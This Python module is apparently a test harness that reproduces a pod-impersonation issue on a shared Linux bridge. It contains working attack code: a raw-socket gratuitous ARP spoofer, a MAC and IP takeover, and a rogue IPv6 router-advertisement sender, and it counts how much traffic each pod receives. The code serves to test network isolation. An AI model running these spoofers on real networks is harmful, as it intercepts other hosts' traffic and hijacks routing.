"""Impersonation on a shared bridge, as issue 44 reproduced it, with real traffic.

Pod A (root's) and pod B (the attacker) hang off one Linux bridge; the host
sends numbered UDP datagrams to A's IP while B tries to take them:
- `garp`: B announces A's IP with its own MAC (gratuitous ARP, over and over)
  and answers for A's IP: the host's neighbour entry moves to B;
- `takeover`: B takes A's MAC and IP and keeps sending from that MAC: the
  bridge's fdb entry for A's MAC moves to B's veth.
Each side counts what reached it. Everything is real: namespaces, veths, the
bridge, the kernel's ARP and fdb, UDP sockets.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass

# Run inside a namespace: count the datagrams reaching PORT for SECONDS.
_RECEIVER = """
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", int(sys.argv[1])))
s.settimeout(0.1)
print("ready", flush=True)
end = time.monotonic() + float(sys.argv[2])
got = set()
while time.monotonic() < end:
    try:
        data = s.recv(64)
    except OSError:
        continue
    got.add(data)
print(len(got), flush=True)
"""

# Run inside a namespace: send gratuitous ARP replies claiming IP from MAC on
# IFNAME every 20 ms for SECONDS (an AF_PACKET socket: what a pod's root can do).
_GARP = """
import socket, sys, time
ifname, ip, mac, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
hw = bytes.fromhex(mac.replace(":", ""))
addr = socket.inet_aton(ip)
frame = (b"\\xff" * 6 + hw + b"\\x08\\x06" + b"\\x00\\x01\\x08\\x00\\x06\\x04\\x00\\x02"
         + hw + addr + b"\\xff" * 6 + addr)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ifname, 0))
end = time.monotonic() + seconds
while time.monotonic() < end:
    s.send(frame)
    time.sleep(0.02)
"""


# Run inside a namespace: send COUNT datagrams to ADDRESS (v4, or v6 with %scope) PORT.
_SENDER = """
import socket, sys, time
host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
info = socket.getaddrinfo(host, port, type=socket.SOCK_DGRAM)[0]
s = socket.socket(info[0], socket.SOCK_DGRAM)
for i in range(count):
    s.sendto(str(i).encode(), info[4])
    time.sleep(0.05)
"""


# Run inside a namespace: advertise itself as the link's IPv6 router (and
# 2001:db8:44::/64 as its prefix) on IFNAME, COUNT times.
_ROUTER_ADVERT = """
import socket, struct, sys, time
ifname, count = sys.argv[1], int(sys.argv[2])
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0)
prefix += socket.inet_pton(socket.AF_INET6, "2001:db8:44::")
for _ in range(count):
    s.sendto(ra + prefix, ("ff02::1", 0, 0, socket.if_nametoindex(ifname)))
    time.sleep(0.2)
"""


def advertise_router(b: Pod, count: int = 5) -> None:
    """B claims to be the link's IPv6 router (what only the network's router may)."""
    proc = b.exec(sys.executable, "-c", _ROUTER_ADVERT, b.ifname, str(count))
    _, err = proc.communicate(timeout=30)
    assert proc.returncode == 0, err


def ip(*args: str, check: bool = True) -> str:
    return subprocess.run(["ip", *args], check=check, capture_output=True, text=True).stdout


@dataclass(frozen=True)
class Pod:
    """A pod's namespace on the bridge: `enter` runs a command inside it."""

    enter: tuple[str, ...]
    host_veth: str
    ip: str
    ifname: str = "eth0"

    @classmethod
    def named(cls, netns: str, host_veth: str, address: str) -> Pod:
        return cls(("ip", "netns", "exec", netns), host_veth, address)

    @classmethod
    def of_pid(cls, pid: int, host_veth: str, address: str) -> Pod:
        """A namespace held by a process (a member's, in its own user namespace):
        root enters it, as the member's own root could act in it."""
        return cls(("nsenter", "-t", str(pid), "-n"), host_veth, address)

    def run_ip(self, *args: str) -> str:
        return subprocess.run([*self.enter, "ip", *args], check=True, capture_output=True,
                              text=True).stdout

    @property
    def mac(self) -> str:
        return str(json.loads(self.run_ip("-j", "link", "show", "dev", self.ifname))[0]["address"])

    def exec(self, *cmd: str) -> subprocess.Popen[str]:
        return subprocess.Popen([*self.enter, *cmd], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True)


@dataclass(frozen=True)
class Tally:
    to_a: int
    to_b: int
    sent: int


def deliver(sender: Pod | None, to: Pod, address: str, *, count: int = 5,
            port: int = 18641) -> int:
    """Datagrams from `sender` (None: the host) to `address` that reached `to`."""
    receiver = to.exec(sys.executable, "-c", _RECEIVER.replace('"0.0.0.0"', '"::"').replace(
        "AF_INET,", "AF_INET6,"), str(port), str(count * 0.05 + 1.5))
    assert receiver.stdout is not None
    assert receiver.stdout.readline().strip() == "ready"
    cmd = [sys.executable, "-c", _SENDER, address, str(port), str(count)]
    if sender is None:
        subprocess.run(cmd, check=True)
    else:
        sent = sender.exec(*cmd)
        assert sent.wait(timeout=30) == 0, sent.stderr.read() if sent.stderr else ""
    out, err = receiver.communicate(timeout=30)
    assert receiver.returncode == 0, err
    return int(out.split()[-1])


def attack(a: Pod, b: Pod, how: str, *, count: int = 40, port: int = 18640,
           prefix: int = 24, meanwhile: Callable[[], None] | None = None) -> Tally:
    """B attacks A (`garp` or `takeover`, see above) while the host sends
    `count` datagrams to A's IP; how many reached each. `meanwhile` runs once
    B's spoofing has had its effect, before the host sends."""
    assert how in ("garp", "takeover")
    # The host knows A first, as it would after any traffic with it.
    assert deliver(None, a, a.ip, count=2) == 2
    seconds = 1.5 + count * 0.05 + 1.0
    if how == "takeover":
        b.run_ip("link", "set", "dev", b.ifname, "address", a.mac)
    b.run_ip("addr", "add", f"{a.ip}/{prefix}", "dev", b.ifname, "nodad")
    receivers = [p.exec(sys.executable, "-c", _RECEIVER, str(port), str(seconds + 0.5))
                 for p in (a, b)]
    for r in receivers:
        assert r.stdout is not None
        assert r.stdout.readline().strip() == "ready", r.stderr.read() if r.stderr else ""
    spoofer = b.exec(sys.executable, "-c", _GARP, b.ifname, a.ip, b.mac, str(seconds))
    try:
        # The kernel ignores a neighbour update within a second (locktime) of the last.
        time.sleep(1.5)
        if meanwhile is not None:
            meanwhile()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            for i in range(count):
                s.sendto(f"{i}".encode(), (a.ip, port))
                time.sleep(0.05)
        counts = []
        for r in receivers:
            out, err = r.communicate(timeout=seconds + 10)
            assert r.returncode == 0, err
            counts.append(int(out.split()[-1]))
    finally:
        spoofer.kill()
        spoofer.wait()
        for r in receivers:
            if r.poll() is None:
                r.kill()
                r.wait()
    return Tally(counts[0], counts[1], count)
